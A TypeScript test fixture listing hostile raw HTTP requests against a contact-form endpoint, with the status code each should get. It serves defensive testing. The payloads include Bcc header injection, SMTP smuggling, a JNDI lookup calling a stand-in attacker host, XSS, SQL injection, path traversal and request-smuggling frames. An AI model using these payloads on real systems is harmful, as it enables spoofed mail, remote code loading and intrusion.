// biome-ignore-all lint/suspicious/noTemplateCurlyInString: templates that must not be filled in are part of the table
import { gzipSync } from 'node:zlib';
import { LIMITS, MAX_BODY_BYTES } from '@/lib/contact/schema';
import { CONTACT_PATH } from '@/lib/routes';
import { contactRequest } from '@/server/testing/requests';

/** One hostile request and the exact status that it deserves. */
export interface HostileInput {
  name: string;
  status: number;
  raw: Buffer;
  /** Set on what is accepted: what its mail must show. */
  expected?: { fullName: string; email: string; text: string };
}

const good = contactRequest({ message: 'Hola/Intereses: Scout' });
type Fields = Record<string, unknown>;

interface Wire {
  method?: string;
  target?: string;
  /** `null` leaves out a header that would be sent otherwise. */
  headers?: Record<string, string | null | undefined>;
  body?: string | Buffer;
}

/** The bytes of a request, without an HTTP client that would correct it. */
function wire({ method = 'POST', target = CONTACT_PATH, headers = {}, body = '' }: Wire): Buffer {
  const bytes = Buffer.from(body);
  const all: Wire['headers'] = {
    Host: 'istmo.example',
    'Content-Type': 'application/json',
    'Content-Length': String(bytes.length),
    ...headers,
  };
  const lines = Object.entries(all).flatMap(([name, value]) => (value == null ? [] : [`${name}: ${value}`]));
  return Buffer.concat([Buffer.from(`${method} ${target} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n`, 'latin1'), bytes]);
}

let accepted = 0;

const refused = (status: number, name: string, request: Wire): HostileInput => ({ name, status, raw: wire(request) });
const fields = (change: Fields): string => JSON.stringify({ ...good, ...change });

/** The number keeps an accepted message from being the same request as another. */
function accept(name: string, change: Partial<typeof good>, headers: Wire['headers'] = {}, mailed?: string) {
  const message = `${change.message ?? good.message} n.º ${accepted++}`;
  const request = { ...good, ...change, message };
  return {
    name,
    status: 200,
    raw: wire({ body: JSON.stringify(request), headers }),
    expected: {
      fullName: request.fullName.trim().replace(/\p{Bidi_Control}/gu, ''),
      email: mailed ?? request.email.trim(),
      text: message.replace(/\r\n?/g, '\n'),
    },
  };
}

/** A name with these bytes in it. */
const inName = (bytes: number[]) =>
  Buffer.concat([Buffer.from('{"fullName":"Ana '), Buffer.from(bytes), Buffer.from('"}')]);

const inject = (value: string, mark: string) => `${value}${mark}Bcc: espia@evil.example`;

const deep = (open: string, close: string, levels: number) => open.repeat(levels) + close.repeat(levels);
const huge = 'x'.repeat(MAX_BODY_BYTES);
const chunk = `${huge.length.toString(16)}\r\n${huge}\r\n`;
const chunked = { 'Content-Length': null, 'Transfer-Encoding': 'chunked' };

const HEAD = `POST ${CONTACT_PATH} HTTP/1.1\r\nConnection: close\r\nContent-Type: application/json\r\n`;
const raw = (name: string, status: number, text: string) => ({ name, status, raw: Buffer.from(text, 'latin1') });

/** The whole table. */
export const hostileInputs: HostileInput[] = [
  // Broken JSON
  ...[
    ...['', ' ', '{', '}', '{"fullName"', '{"fullName":', '{"fullName":"Ana"', '{"fullName":"Ana",}'],
    ...["{'fullName':'Ana'}", '{fullName:"Ana"}', '{"fullName":"Ana"} x', '{"a":1}{"b":2}', '[1,', 'undefined'],
    ...['NaN', '{"a":NaN}', '{"a":01}', '{"a":1e}', '"\u0001"', '{"a":"\n"}', '{"a":"\\x41"}', '{"a":"\\u12"}'],
    ...['// comment\n{}', '<?xml version="1.0"?>', 'fullName=Ana&email=ana%40example.com', '\ufeff{}'],
    ...['{"__proto__":', 'true false', '-', '{"a":.5}'],
  ].map((body) => refused(400, `broken JSON ${JSON.stringify(body)}`, { body })),
  // JSON that is no object, or not the object of a request
  ...['null', 'true', '0', '-1e308', '1e999', '""', '"hola"', '[]', '[[]]', '[{}]', '{}', `[${fields({})}]`].map(
    (body) => refused(422, `JSON that is no request: ${body.slice(0, 20)}`, { body }),
  ),
  // Bytes that are no UTF-8
  ...(
    [
      ['a lone continuation byte', inName([0x80])],
      ['an overlong slash', inName([0xc0, 0xaf])],
      ['an overlong NUL', inName([0xc0, 0x80])],
      ['half a surrogate pair in bytes', inName([0xed, 0xa0, 0x80])],
      ['beyond Unicode', inName([0xf4, 0x90, 0x80, 0x80])],
      ['0xFF', inName([0xff])],
      ['a cut character', inName([0xe2, 0x82])],
      ['latin1', Buffer.from(fields({}), 'latin1')],
      ['UTF-16LE', Buffer.from(`\ufeff${fields({})}`, 'utf16le')],
      ['UTF-16LE without a mark', Buffer.from(fields({}), 'utf16le')],
      ['gzip that does not say so', gzipSync(fields({}))],
    ] as [string, Buffer][]
  ).map(([name, body]) => refused(400, `charset: ${name}`, { body })),
  // Content types and codings
  ...[
    ...[null, '', 'text/plain', 'text/json', 'application/x-www-form-urlencoded'],
    ...['multipart/form-data; boundary=x', 'application/jsonp', 'application/json-patch+json'],
    ...['application/problem+json', 'application/json; charset=latin1', 'application/json; charset=utf-16'],
    ...['application/json; charset=utf-7', 'application/json; x=1', 'application/json, text/plain'],
    ...['text/plain; application/json', 'application/javascript', '*/*', 'application/*'],
  ].map((type) => refused(415, `content type ${type}`, { body: fields({}), headers: { 'Content-Type': type } })),
  ...['gzip', 'br', 'deflate', 'gzip, br', 'compress', 'x'].map((coding) =>
    refused(415, `content coding ${coding}`, { body: fields({}), headers: { 'Content-Encoding': coding } }),
  ),
  accept('content type with charset', {}, { 'Content-Type': 'application/json; charset=UTF-8' }),
  accept('content type in capitals', {}, { 'Content-Type': 'APPLICATION/JSON' }),
  accept('content coding identity', {}, { 'Content-Encoding': 'identity' }),
  // Fields of a wrong type, missing ones, and keys too many
  ...Object.keys(good).flatMap((field) =>
    [null, true, 7, [], ['ana@example.com'], {}, { toString: 'x' }, { $ne: '' }].map((value) =>
      refused(422, `${field} is ${JSON.stringify(value)}`, { body: fields({ [field]: value }) }),
    ),
  ),
  ...Object.keys(good).map((field) => refused(422, `without ${field}`, { body: fields({ [field]: undefined }) })),
  ...[
    ...['celular', 'to', 'bcc', 'from', 'html', 'attachments', 'constructor', 'prototype', 'toString'],
    ...['hasOwnProperty', 'valueOf', '__defineGetter__', '', 'fullname', 'EMAIL', 'message ', 'toJSON', 'then'],
  ].map((key) => refused(422, `a key too many: ${JSON.stringify(key)}`, { body: fields({ [key]: 'x' }) })),
  ...['{"isAdmin":true}', '"x"', 'null', '[]'].map((value) =>
    refused(422, `__proto__ is ${value}`, { body: fields({}).replace('{', `{"__proto__":${value},`) }),
  ),
  // Line breaks and control characters
  ...['\r\n', '\n', '\r', '\u0085', '\u2028', '\u2029', '\0', '\x1b[2J', '\x7f', '\v'].flatMap((mark) =>
    (['fullName', 'email', 'subject'] as const).map((field) =>
      refused(422, `${JSON.stringify(mark)} in ${field}`, { body: fields({ [field]: inject(good[field], mark) }) }),
    ),
  ),
  ...['\u0085', '\0', '\x1b[2J', '\x7f', '\v', '\ud800', '\udc00x'].map((mark) =>
    refused(422, `${JSON.stringify(mark)} in message`, { body: fields({ message: inject('Hola', mark) }) }),
  ),
  refused(422, 'half a character in fullName', { body: fields({ fullName: 'Ana \ud83d' }) }),
  ...['\r\n', '\n', '\r', '\u2028'].map((mark) =>
    accept(`${JSON.stringify(mark)} in message`, { message: inject('Hola', mark) }),
  ),
  ...['\r\n', ' \t'].map((mark) =>
    accept(`${JSON.stringify(mark)} after fullName and email`, {
      fullName: `Ana Pérez${mark}`,
      email: `ana@example.com${mark}`,
    }),
  ),
  // Further recipients
  ...[
    ...['ana@example.com, espia@evil.example', 'ana@example.com,espia@evil.example'],
    ...['ana@example.com;espia@evil.example', 'ana@example.com espia@evil.example', 'Ana <ana@example.com>'],
    ...['<ana@example.com>', 'ana@example.com>', '"ana"@example.com', '"ana espia@evil.example,"@example.com'],
    ...['ana(comentario)@example.com', 'grupo: ana@example.com;', 'ana@example.com:25'],
    ...['@evil.example:ana@example.com', 'ana%evil.example@example.com@x.co', 'ana@@example.com', 'ana@'],
    ...['@example.com', 'ana', 'ana@localhost', 'ana@127.0.0.1:25', 'ana@[127.0.0.1]', 'ana@[IPv6:::1]'],
    ...['ana@exa mple.com', 'ana@example..com', 'ana@.example.com', 'ana@example.com.', 'ana@-example.com'],
    ...['ana@example-.com', 'ana..b@example.com', '.ana@example.com', 'ana.@example.com'],
    ...['ana@example.com?bcc=espia@evil.example', 'mailto:ana@example.com', 'ana@ex\u200bample.com'],
    ...['аna@example.com', 'ana\u200b@example.com', 'ana@exämple.com:25', 'ana@１２７.０.０.１'],
    ...['=?utf-8?q?ana=40example.com=2C?= <espia@evil.example>', 'ana@example.com\\r\\nBcc:espia@evil.example'],
    ...["ana@example.com' OR 1=1 --", `${'a'.repeat(65)}@example.com`, `ana@${'a'.repeat(64)}.com`],
    ...[`${'a'.repeat(64)}@${`${'b'.repeat(60)}.`.repeat(4)}com`],
  ].map((email) => refused(422, `address ${JSON.stringify(email.slice(0, 60))}`, { body: fields({ email }) })),
  accept('an address with every legal sign', { email: "a.b!#$%&'*+/=?^_`{|}~-c@sub.example.com" }),
  ...Object.entries({ 'ana@exämple.com': 'ana@xn--exmple-cua.com', 'ana@ejemplo\u3002com': 'ana@ejemplo.com' }).map(
    ([email, mailed]) => accept(`an international host ${email}`, { email }, {}, mailed),
  ),
  accept('an address with a percent route', { email: 'espia%evil.example@example.com' }),
  accept('a name that looks like addresses', { fullName: 'Ana, espia@evil.example; <otro@evil.example>' }),
  accept('a name in encoded words', { fullName: '=?UTF-8?Q?Ana=0D=0ABcc:_espia=40evil.example?=' }),
  accept('a name with quotes', { fullName: 'Ana "\\" <espia@evil.example>' }),
  accept('a name with a comment', { fullName: 'Ana (espia@evil.example)' }),
  // Sizes
  refused(422, 'a name one character too long', { body: fields({ fullName: 'a'.repeat(LIMITS.fullName + 1) }) }),
  refused(422, 'a message one character too long', { body: fields({ message: 'a'.repeat(LIMITS.message + 1) }) }),
  refused(422, 'an address of 60 KB', { body: fields({ email: `${'a.'.repeat(30_000)}@example.com` }) }),
  refused(422, 'a name of 60 KB of blanks', { body: fields({ fullName: ' '.repeat(60_000) }) }),
  refused(422, 'a message of 60 KB', { body: fields({ message: 'a'.repeat(60_000) }) }),
  refused(422, 'six thousand keys', {
    body: `{${Array.from({ length: 6000 }, (_, index) => `"k${index}":1`).join()}}`,
  }),
  refused(413, 'a body one byte too large', { body: ' '.repeat(MAX_BODY_BYTES + 1) }),
  refused(413, 'a body of 5 MB', { body: ' '.repeat(5 * 1024 * 1024) }),
  refused(413, 'a body that says it has 1 TB', { headers: { 'Content-Length': '1099511627776' }, body: '{' }),
  refused(413, 'a body in chunks that add up', { headers: chunked, body: `${chunk}${chunk}0\r\n\r\n` }),
  refused(422, 'arrays in arrays, 30,000 deep', { body: deep('[', ']', 30_000) }),
  refused(422, 'objects in objects, 10,000 deep', { body: `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}` }),
  refused(422, 'a message 20,000 arrays deep', {
    body: fields({}).replace('"Hola/Intereses: Scout"', deep('[', ']', 20_000)),
  }),
  refused(422, 'a number of 60,000 digits', { body: '9'.repeat(60_000) }),
  refused(431, 'headers of 20 KB', { body: fields({}), headers: { 'X-Large': 'x'.repeat(20_000) } }),
  refused(431, 'an address of 20 KB', { target: `${CONTACT_PATH}?${'x'.repeat(20_000)}`, body: fields({}) }),
  accept('a name as long as may be', { fullName: 'Ñ'.repeat(LIMITS.fullName) }),
  accept('a message as long as may be', { message: '🚀'.repeat(LIMITS.message / 2 - 10) }),
  // Strange texts that are accepted
  ...Object.entries({
    HTML: '<b>Hola</b><img src=x onerror=alert(1)>',
    'a script': '<script>alert(1)</script>',
    'a template': '{{7*7}} ${7*7} <%= 7*7 %>',
    'a lookup': '${jndi:ldap://evil.example/a}',
    SQL: "'; DROP TABLE contact_requests; --",
    parameters: '$1 ?1 :id @id %s %00',
    'the end of a mail': 'Hola\r\n.\r\nMAIL FROM:<espia@evil.example>\r\nRCPT TO:<otro@evil.example>\r\nDATA\r\n',
    dots: '..\n.\n..',
    'a boundary': '--boundary\nContent-Type: text/html\n\n<b>x</b>\n--boundary--',
    'mail headers': 'Content-Type: text/html\nBcc: espia@evil.example\n\nHola',
    'a line From': 'From espia@evil.example\nFrom: x',
    'right-to-left marks': 'Hola \u202egnp.exe \u2066x\u2069 \u200f',
    'stacked marks': `Z${'\u0301'.repeat(200)}`,
    'invisible characters': 'a\u200b\u200d\ufeffb',
    'other scripts': '你好 مرحبا שלום Привет 👩‍👩‍👧‍👦',
    'a private character': '\ue000 \uffff',
    'one very long line': 'x'.repeat(4000),
    'many lines': '\n'.repeat(3000),
    backslashes: '\\r\\n\\0 \\" \\u0000',
    'only the interests': '/Intereses: ',
  }).map(([name, message]) => accept(`message with ${name}`, { message })),
  ...Object.entries({
    HTML: '<b>Ana</b>',
    'a right-to-left override': 'Ana \u202emoc.live@nimda',
    'right-to-left marks': '\u200fAna\u200e \u2066Pérez\u2069',
    'a lookup': '${jndi:ldap://evil.example/a}',
    SQL: "Robert'); DROP TABLE contact_requests;--",
    'a comma and a semicolon': 'Pérez, Ana; Ltda.',
    'a colon': 'Grupo: Ana',
    'a zero-width joiner': 'Ana\u200dPérez',
    emoji: '🚀',
    'null as text': 'null',
  }).map(([name, fullName]) => accept(`name with ${name}`, { fullName })),
  {
    ...accept('a key given twice, the last one counts', {}),
    raw: wire({
      body: `{"email":"espia@evil.example",${JSON.stringify({ ...good, message: `${good.message} n.º ${accepted - 1}` }).slice(1)}`,
    }),
  },
  // Methods and paths
  ...['GET', 'HEAD', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND'].map((method) =>
    refused(405, `method ${method}`, {
      method,
      ...(method === 'GET' || method === 'HEAD' ? { headers: { 'Content-Length': null } } : { body: fields({}) }),
    }),
  ),
  ...['post', 'FOO', 'POST /x'].map((method) => refused(400, `method ${method}`, { method, body: fields({}) })),
  ...[
    `${CONTACT_PATH}/`,
    `/${CONTACT_PATH}`,
    `${CONTACT_PATH}%00`,
    CONTACT_PATH.toUpperCase(),
    `/x/..${CONTACT_PATH}`,
  ].map((target) => refused(308, `path ${target}`, { target, body: fields({}) })),
  // Origins
  ...[
    { 'Sec-Fetch-Site': 'cross-site' },
    { 'Sec-Fetch-Site': 'same-site' },
    { 'Sec-Fetch-Site': 'x' },
    { Origin: 'https://evil.example' },
    { Origin: 'null' },
    { Origin: 'istmo.example' },
    { Origin: 'file://' },
    { Origin: 'https://istmo.example.evil.example' },
    { Origin: 'https://evil.example/istmo.example' },
    { Origin: 'https://istmo.example:8443' },
    { Origin: 'https://istmo.example@evil.example' },
    { Origin: 'https://istmo.example', 'Sec-Fetch-Site': 'cross-site' },
  ].map((headers) => refused(403, `origin ${JSON.stringify(headers)}`, { headers, body: fields({}) })),
  accept('its own origin', {}, { Origin: 'https://istmo.example', 'Sec-Fetch-Site': 'same-origin' }),
  accept('its own origin in an old browser', {}, { Origin: 'https://istmo.example' }),
  accept('a forwarded address from anybody', {}, { 'X-Forwarded-For': "1.2.3.4, '; DROP TABLE x" }),
  accept('a policy version that is none', {}, { 'Privacy-Policy-Version': '<script>' }),
  // Idempotency keys
  ...['', 'x', 'a b c d e f', 'a'.repeat(129), "a'; DROP TABLE x", '../../etc/passwd', 'key:content', 'ñandúñandú'].map(
    (key) =>
      refused(400, `idempotency key ${JSON.stringify(key.slice(0, 30))}`, {
        body: fields({}),
        headers: { 'Idempotency-Key': key },
      }),
  ),
  accept('a key for one body', {}, { 'Idempotency-Key': 'una-clave-de-prueba' }),
  refused(422, 'the same key for another body', {
    body: fields({ message: 'Otro' }),
    headers: { 'Idempotency-Key': 'una-clave-de-prueba' },
  }),
  // Broken HTTP
  raw('no host', 400, `${HEAD}Content-Length: 2\r\n\r\n{}`),
  raw('two lengths', 400, `${HEAD}Host: x\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}x`),
  raw('a length and chunks', 400, `${HEAD}Host: x\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`),
  raw('a negative length', 400, `${HEAD}Host: x\r\nContent-Length: -2\r\n\r\n{}`),
  raw('a length that is no number', 400, `${HEAD}Host: x\r\nContent-Length: 0x2\r\n\r\n{}`),
  raw('a chunk size that is none', 400, `${HEAD}Host: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`),
  raw('a header without a name', 400, `${HEAD}Host: x\r\n: x\r\n\r\n`),
  raw('a header with a blank in its name', 400, `${HEAD}Host: x\r\nContent Length: 2\r\n\r\n{}`),
  raw('a bare line feed in a header', 400, `${HEAD}Host: x\r\nX: a\0b\r\n\r\n`),
  raw('not HTTP', 400, '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n'),
  raw('HTTP/2 in the clear', 400, 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  raw('HTTP/9', 400, `POST ${CONTACT_PATH} HTTP/9.9\r\nHost: x\r\n\r\n`),
];
